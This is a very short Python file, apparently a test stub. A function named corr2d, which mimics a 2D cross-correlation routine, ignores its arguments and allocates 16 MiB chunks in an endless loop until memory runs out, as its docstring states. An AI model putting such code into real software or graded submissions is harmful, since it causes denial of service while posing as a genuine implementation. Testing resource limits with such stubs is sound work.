"""Takes memory until there is none."""

kept = []


def corr2d(X, K):
    while True:
        kept.append(b'x' * (16 << 20))
